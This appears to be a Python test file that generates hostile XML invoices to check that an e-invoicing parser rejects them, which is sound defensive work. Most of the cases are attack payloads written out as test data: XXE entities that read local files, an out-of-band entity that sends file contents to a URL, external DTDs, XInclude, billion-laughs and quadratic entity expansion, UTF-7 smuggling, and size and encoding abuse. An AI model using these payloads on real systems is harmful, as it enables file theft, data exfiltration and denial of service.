"""Write XML that attacks its reader: entities, inclusions, size, depth, encodings, odd values."""

from __future__ import annotations

from collections.abc import Iterator

from tests.einvoicing.hostile.cases import Case, case

NUMBER = "<ram:ID>F-2026-001<"
ISSUED = '<udt:DateTimeString format="102">20260115<'
PAYABLE = "<ram:DuePayableAmount>1000.00<"
LINE_FROM, LINE_TO = "<ram:IncludedSupplyChain", "<ram:ApplicableHeaderTradeAgree"
MAX_TAGS = 1_500_000


def cases(cii: str, ubl: str, canary: str, url: str) -> Iterator[Case]:
    """Give each file; `canary` is the URI of a file not to be read, `url` one not to be called."""
    yield from _entities(cii, canary, url)
    yield from _inclusions(cii, canary, url)
    yield from _sizes(cii)
    yield from _encodings(cii)
    yield from _shapes(cii, ubl)
    yield from _values(cii)


def with_doctype(cii: str, doctype: str, number: str = "&e;") -> bytes:
    """Put a DOCTYPE after the declaration, and an entity where the number stands."""
    declaration, _, rest = cii.partition("?>")
    return f"{declaration}?>{doctype}{rest}".replace("F-2026-001", number).encode()


def _entities(cii: str, canary: str, url: str) -> Iterator[Case]:
    file = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}">]>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctypes = {
        "file entity": file,
        "file entity by PUBLIC": f'<!DOCTYPE x [<!ENTITY e PUBLIC "-//X//Y" "{canary}">]>',
        "parameter entity": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}p.dtd"> %p;]>',
        "entity out over the network": f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{canary}"><!ENTITY % all '
        f"\"<!ENTITY send SYSTEM '{url}?%f;'>\"> %all;]>",
        "external DTD": f'<!DOCTYPE x SYSTEM "{url}x.dtd">',
        "external DTD in a file": f'<!DOCTYPE x SYSTEM "{canary}">',
        "internal entity": '<!DOCTYPE x [<!ENTITY e "INJECTE">]>',
        "attribute default": "<!DOCTYPE x [<!ATTLIST x y CDATA 'INJECTE'>]>",
        "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}<!ENTITY e "&l9;">]>',
        "recursive entity": '<!DOCTYPE x [<!ENTITY e "&f;"><!ENTITY f "&e;">]>',
        "doctype after a comment": "<!-- a --><?pi b?> <!DOCTYPE x>",
    }
    for name, doctype in doctypes.items():
        yield case(name, with_doctype(cii, doctype), "xml_doctype")
    quadratic = f'<!DOCTYPE x [<!ENTITY e "{"a" * 100_000}">]>'
    yield case("quadratic", with_doctype(cii, quadratic, "&e;" * 100_000), "xml_doctype")
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"):
        label = "UTF-8" if codec == "utf-8-sig" else "UTF-16"
        hidden = with_doctype(cii, file).decode().replace("UTF-8", label).encode(codec)
        yield case(f"file entity in {codec}", hidden, "xml_doctype")
    yield case("doctype in lower case", with_doctype(cii, file.lower()), "xml_malformed")
    yield case("undeclared entity", cii.replace("F-2026-001", "&e;").encode(), "xml_malformed")
    long = b"<!--" + b"x" * 5_000_000 + b"-->"
    yield case(
        "doctype behind megabytes of comment",
        with_doctype(cii, file).replace(b"<!DOCTYPE", long + b"<!DOCTYPE", 1),
        "xml_doctype",
    )
    yield case("doctype after the root", cii.encode() + file.encode(), "xml_malformed")
    many = b"<!-- -->" * 1_000_000
    yield case(
        "doctype behind a million comments",
        with_doctype(cii, file).replace(b"<!DOCTYPE", many + b"<!DOCTYPE", 1),
        "xml_doctype",
    )


def _inclusions(cii: str, canary: str, url: str) -> Iterator[Case]:
    root = "<rsm:CrossIndustryInvoice"
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary}" parse="text"/>'
    yield case("XInclude", cii.replace(NUMBER, f"<ram:ID>{include}<").encode(), "mixed_content")
    fallback = include.replace(canary, f"{url}f.xml").replace("text", "xml")
    yield case(
        "XInclude over the network",
        cii.replace("<rsm:ExchangedDocument>", f"<rsm:ExchangedDocument>{fallback}").encode(),
        "ok",
    )
    schema = (
        f'{root} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="urn:x {canary} urn:y {url}y.xsd" xsi:noNamespaceSchemaLocation="{url}"'
    )
    yield case("schemaLocation", cii.replace(root, schema, 1).encode(), "ok")
    for target in (canary, url):
        sheet = f'<?xml-stylesheet type="text/xsl" href="{target}"?>{root}'
        name = f"stylesheet {'in a file' if target == canary else 'over the network'}"
        yield case(name, cii.replace(root, sheet, 1).encode(), "ok")
    base = cii.replace(root, f'{root} xml:base="{url}"', 1).encode()
    yield case("xml:base", base, "ok")


def _sizes(cii: str) -> Iterator[Case]:
    line = cii[cii.index(LINE_FROM) : cii.index(LINE_TO)]
    short = (
        "<ram:IncludedSupplyChainTradeLineItem><ram:SpecifiedTradeProduct><ram:Name>x</ram:Name>"
        "</ram:SpecifiedTradeProduct></ram:IncludedSupplyChainTradeLineItem>"
    )
    context = "<rsm:ExchangedDocument>"
    for depth in (300, 100_000):
        deep = "<a>" * depth + "</a>" * depth
        yield case(f"depth {depth}", cii.replace(context, f"{deep}{context}").encode(), "xml_malformed")
    unclosed = ("<a>" * 1_000_000).encode()
    yield case("a million tags never closed", unclosed, "xml_malformed")
    yield case(
        "eleven megabytes of text",
        cii.replace("F-2026-001", "9" * 11_000_000, 1).encode(),
        "xml_malformed",
    )
    yield case(
        "nine megabytes of text",
        cii.replace(NUMBER, f"<ram:ID>{'9' * 9_000_000}<").encode(),
        "text_too_long",
        issues=frozenset({"missing_number"}),
    )
    padded = line.replace("Conseil", "x" * 200)
    many = padded * (24_000_000 // len(padded))
    yield case("twenty-four megabytes of lines", cii.replace(line, many).encode(), "xml_too_large")
    yield case("twenty thousand lines", cii.replace(line, short * 20_000).encode(), "ok")
    yield case("too many lines", cii.replace(line, short * 20_001).encode(), "too_many_lines")
    yield case(
        "as many tags as the cap lets through",
        cii.replace(context, f"{context}{'<a/>' * 1_490_000}").encode(),
        "ok",
    )
    yield case("too many tags", cii.replace(context, "<a/>" * MAX_TAGS).encode(), "xml_too_many_tags")
    attributes = " ".join(f'a{n}=""' for n in range(100_000))
    yield case("a hundred thousand attributes", cii.replace(context, f"<rsm:ExchangedDocument {attributes}>").encode(), "ok")
    more = " ".join(f'a{n}=""' for n in range(MAX_TAGS))
    yield case(
        "more attributes than the cap",
        f"<a {more}/>".encode(),
        "xml_too_many_tags",
    )
    spaces = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000))
    yield case("many namespaces", cii.replace(context, f"<rsm:ExchangedDocument {spaces}>").encode(), "ok", "xml_malformed")
    huge = "x" * 9_000_000
    yield case("a huge attribute", cii.replace("<ram:ID>F-2026-001", f'<ram:ID schemeID="{huge}">F-2026-001').encode(), "ok")
    huge = "x" * 11_000_000
    yield case("a huger attribute", cii.replace("<ram:ID>F-2026-001", f'<ram:ID schemeID="{huge}">F-2026-001').encode(), "xml_malformed")
    name = "n" * 60_000
    yield case("a long name", cii.replace(context, f"<{name}/>{context}").encode(), "ok", "xml_malformed")
    names = "".join(f"<n{n}/>" for n in range(500_000))
    yield case("half a million names", cii.replace(context, f"{names}{context}").encode(), "ok")
    parties = "<ram:Name>Autre</ram:Name>" * 300_000
    yield case(
        "a name repeated without end",
        cii.replace("<ram:Name>Atelier Exemple</ram:Name>", f"<ram:Name>Atelier Exemple</ram:Name>{parties}").encode(),
        "ok", "repeated_term",
        issues=frozenset({"too_many_issues"}),
    )
    notes = "<ram:IncludedNote><ram:Content>x</ram:Content></ram:IncludedNote>" * 150_000
    yield case("150,000 notes", cii.replace("<ram:IncludedNote>", f"{notes}<ram:IncludedNote>", 1).encode(), "ok", "too_many_groups")
    terms = "".join(
        "<ram:SpecifiedTradePaymentTerms><ram:DueDateDateTime><udt:DateTimeString>"
        f"{2000 + n // 336:04}{n // 28 % 12 + 1:02}{n % 28 + 1:02}</udt:DateTimeString></ram:DueDateDateTime>"
        "</ram:SpecifiedTradePaymentTerms>"
        for n in range(30_000)
    )
    yield case("30,000 due dates", cii.replace("<ram:SpecifiedTradePaymentTerms>", f"{terms}<ram:SpecifiedTradePaymentTerms>", 1).encode(), "ok", "too_many_groups", "several_due_dates")
    currencies = "".join(
        f'<ram:TaxTotalAmount currencyID="C{n}">1.00</ram:TaxTotalAmount>' for n in range(100_000)
    )
    yield case("100,000 currencies", cii.replace("<ram:TaxTotalAmount", f"{currencies}<ram:TaxTotalAmount", 1).encode(), "ok", "too_many_groups")
    ids = '<ram:GlobalID schemeID="0009">12345678200003</ram:GlobalID>' * 100_000
    yield case("100,000 wrong SIRETs", cii.replace("<ram:GlobalID", f"{ids}<ram:GlobalID", 1).encode(), "ok", "too_many_groups")


def _encodings(cii: str) -> Iterator[Case]:
    accepted = (
        *(("UTF-8", "utf-8-sig"), ("UTF-16", "utf-16"), ("UTF-16", "utf-16-le")),
        *(("UTF-16", "utf-16-be"), ("ISO-8859-1", "iso-8859-1"), ("ISO-8859-15", "iso-8859-15")),
        ("windows-1252", "cp1252"),
    )
    for label, codec in accepted:
        data = cii.replace("UTF-8", label).encode(codec)
        yield case(f"{codec} said {label}", data, "ok", shows="Indemnité de 40 euros")
    for mark, codec in ((b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")):
        data = mark + cii.replace("UTF-8", "UTF-16").encode(codec)
        yield case(f"{codec} with its mark", data, "ok", shows="Indemnité de 40 euros")
    refused = (
        *(("UTF-7", "utf-7"), ("UTF-32", "utf-32"), ("UTF-32", "utf-32-le"), ("UTF-32", "utf-32-be")),
        *(("UTF-8", "iso-8859-1"), ("UTF-8", "cp1252"), ("UTF-16", "utf-8"), ("UTF-8", "utf-16")),
        *(("ISO-8859-1", "utf-8-sig"), ("UTF-7", "utf-8"), ("EBCDIC-CP-FR", "utf-8")),
        *(("UTF-8", "cp500"), ("IBM037", "cp037"), ("UTF-16LE", "utf-16-be"), ("CESU-8", "utf-8")),
        *(("ISO-2022-JP", "utf-8"), ("GB18030", "utf-8"), ("UCS-4", "utf-32-be")),
    )
    for label, codec in refused:
        text = cii.replace("UTF-8", label)
        data = text.encode(codec, "replace")
        yield case(f"{codec} said {label}", data, "xml_encoding", "unknown_kind")
    smuggled = cii.replace("UTF-8", "UTF-7").replace(
        "<rsm:ExchangedDocument>", "+ADw-rsm:ExchangedDocument+AD4-"
    )
    yield case("tags smuggled in UTF-7", smuggled.encode(), "xml_encoding")
    two = cii.replace('encoding="UTF-8"', 'encoding="UTF-8" encoding="UTF-7"')
    yield case("two encodings declared", two.encode(), "xml_malformed")
    overlong = cii.encode().replace(b"F-2026-001", b"F\xc0\xafX", 1)
    yield case("overlong UTF-8", overlong, "xml_encoding")
    surrogate = cii.encode().replace(b"F-2026-001", b"F\xed\xa0\x80X", 1)
    yield case("lone surrogate in UTF-8", surrogate, "xml_encoding")
    lone = cii.replace("UTF-8", "UTF-16").encode("utf-16-le").replace(b"F\0-\0", b"F\0\0\xd8", 1)
    yield case("lone surrogate in UTF-16", lone, "xml_encoding")
    yield case("odd number of bytes in UTF-16", cii.replace("UTF-8", "UTF-16").encode("utf-16")[:-1], "xml_encoding")
    yield case("NUL in a value", cii.replace("F-2026", "F\0-2026").encode(), "xml_malformed")
    yield case("NUL by reference", cii.replace("F-2026", "F&#0;-2026").encode(), "xml_malformed")
    yield case("NULs after the end", cii.encode() + bytes(1000), "ok", "xml_malformed")
    yield case("NULs before the start", bytes(1000) + cii.encode(), "unknown_kind")
    yield case("a control character", cii.replace("F-2026", "F\x01-2026").encode(), "xml_malformed")


def _shapes(cii: str, ubl: str) -> Iterator[Case]:
    ram = "ReusableAggregateBusinessInformationEntity:100"
    yield case("same names in a foreign namespace", cii.replace(ram, "Fake:1").encode(), "missing_number", "missing_issue_date")
    foreign = f'<x:ID xmlns:x="urn:fake">FAUX-1</x:ID>{NUMBER}'
    yield case("a foreign number first", cii.replace(NUMBER, foreign).encode(), "ok", shows='"F-2026-001"', hides="FAUX-1")
    bare = f'<ID xmlns="">FAUX-1</ID>{NUMBER}'
    yield case("a number in no namespace", cii.replace(NUMBER, bare).encode(), "ok", hides="FAUX-1")
    swapped = cii.replace("ram:", "tmp:").replace("rsm:", "ram:").replace("tmp:", "rsm:")
    yield case("prefixes swapped, bound to the right names", swapped.encode(), "ok", shows='"F-2026-001"')
    wrong = cii.replace("xmlns:ram=", "xmlns:x=").replace("xmlns:rsm=", "xmlns:ram=").replace("xmlns:x=", "xmlns:rsm=")
    yield case("prefixes swapped, bound to the wrong names", wrong.encode(), "unknown_root")
    default = cii.replace("<rsm:", "<").replace("</rsm:", "</").replace("xmlns:rsm=", "xmlns=")
    yield case("a default namespace", default.encode(), "ok", shows='"F-2026-001"')
    nested = f'<ram:ID xmlns:ram="urn:fake">FAUX-1</ram:ID>{NUMBER}'
    yield case("a prefix bound anew inside", cii.replace(NUMBER, nested).encode(), "ok", hides="FAUX-1")
    yield case("a prefix never bound", cii.replace(NUMBER, f"<zzz:a/>{NUMBER}").encode(), "xml_malformed")
    case_changed = cii.replace("<ram:ID>F-2026-001</ram:ID>", "<ram:Id>F-2026-001</ram:Id>")
    yield case("another case", case_changed.encode(), "missing_number")
    upper = cii.replace("urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100", "URN:UN:UNECE:uncefact:data:standard:CrossIndustryInvoice:100")
    yield case("a namespace in another case", upper.encode(), "unknown_root")
    for name, split in {
        "a comment inside a value": "F-2026<!-- -9999 -->-001",
        "an instruction inside a value": "F-2026<?pi -9999 ?>-001",
        "CDATA": "<![CDATA[F-2026-001]]>",
        "CDATA in parts": "F-<![CDATA[2026]]>-0<![CDATA[]]>01",
        "character references": "&#70;-&#x32;026-001",
        "comments before and after": "<!-- 1 -->F-2026-001<!-- 2 -->",
    }.items():
        text = cii.replace(NUMBER, f"<ram:ID>{split}<")
        yield case(name, text.encode(), "ok", shows='"number": "F-2026-001"', hides="9999")
    markup = cii.replace(NUMBER, "<ram:ID><![CDATA[<ram:ID>X</ram:ID>]]><")
    yield case("markup in CDATA", markup.encode(), "ok", shows="<ram:ID>X</ram:ID>")
    yield case("CDATA never closed", cii.replace(NUMBER, "<ram:ID><![CDATA[F<").encode(), "xml_malformed")
    children = cii.replace(NUMBER, "<ram:ID>F-2026<b>-9999</b>-001<")
    yield case("elements inside a value", children.encode(), "mixed_content", issues=frozenset({"missing_number"}))
    ids = cii.replace("<ram:ID>", '<ram:ID xml:id="a">').replace("<ram:Name>", '<ram:Name ID="a">')
    yield case("the same id everywhere", ids.encode(), "ok", "xml_malformed")
    twice = cii.replace("<ram:TypeCode>380", '<ram:TypeCode a="1" a="2">380')
    yield case("an attribute twice", twice.encode(), "xml_malformed")
    other = cii.replace(NUMBER, f"<ram:ID>AUTRE</ram:ID>{NUMBER}")
    yield case("two numbers", other.encode(), "ok", issues=frozenset({"repeated_term"}))
    yield case("two roots", cii.encode() + cii.partition("?>")[2].encode(), "xml_malformed")
    inside = ubl.replace("</Invoice>", cii.partition("?>")[2] + "</Invoice>")
    yield case("an invoice inside an invoice", inside.encode(), "ok")
    old = cii.replace('version="1.0"', 'version="1.1"')
    yield case("XML 1.1", old.encode(), "ok", "xml_malformed")
    nil = cii.replace(PAYABLE, '<ram:DuePayableAmount xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true">1000.00<')
    yield case("a value said nil", nil.encode(), "ok")
    direction = cii.replace("Atelier Exemple", "\u202eelpmexE\u202c\u0000".replace("\0", "") + "\u200b")
    yield case("text that runs backwards", direction.encode(), "ok")


def _values(cii: str) -> Iterator[Case]:
    amounts = (
        *("1E+100", "1e5", "NaN", "Infinity", "-Infinity", "sNaN", "1_000", "1,000.00", "1000,00"),
        *("\u0661\u0662\u0663", "\uff11\uff12", "0x10", "1 000", "\u00bd", "--1", "1.2.3", "1." + "0" * 50),
        *("9" * 1_000, "+", ".", "\u2212100", "1\u00a0000", "10\u20ac", "true", "1e-400"),
    )
    for text in amounts:
        data = cii.replace(PAYABLE, f"<ram:DuePayableAmount>{text}<").encode()
        yield case(f"amount {ascii(text)[:20]}", data, "ok", issues=frozenset({"amount_invalid"}), shows='"payable": null')
    million = cii.replace(PAYABLE, f"<ram:DuePayableAmount>{'9' * 1_000_000}<").encode()
    yield case("an amount of a million digits", million, "ok", issues=frozenset({"text_too_long"}), shows='"payable": null')
    for text in ("-0", "0.00000000000000000000000000000001", "9" * 40, "+5", ".5", "5."):
        data = cii.replace(PAYABLE, f"<ram:DuePayableAmount>{text}<").encode()
        yield case(f"amount {text}", data, "ok")
    days = (
        *("00000101", "20261301", "20260230", "20260229", "99999999", "2026011", "202601155"),
        *("\u0662\u0660\u0662\u0666\u0660\u0661\u0661\u0665", "2026 115", "20260115T00", "+2026115", "-0260115"),
    )
    for text in days:
        data = cii.replace(ISSUED, f'<udt:DateTimeString format="102">{text}<').encode()
        yield case(f"day {ascii(text)[:20]}", data, "date_invalid", issues=frozenset({"missing_issue_date"}))
    for text in ("99991231", "00010101"):
        data = cii.replace(ISSUED, f'<udt:DateTimeString format="102">{text}<').encode()
        yield case(f"day {text}", data, "ok")
    formats = ("", "999", "102 ", "\u0661\u0660\u0662", "616", "x" * 5_000)
    for text in formats:
        data = cii.replace(ISSUED, f'<udt:DateTimeString format="{text}">20260115<').encode()
        yield case(f"date format {ascii(text)[:10]}", data, "ok", "date_format")
    zone = cii.replace(ISSUED, '<udt:DateTimeString format="102">2026-01-15+14:00<').encode()
    yield case("an ISO day with a zone in CII", zone, "date_invalid", "date_with_zone")
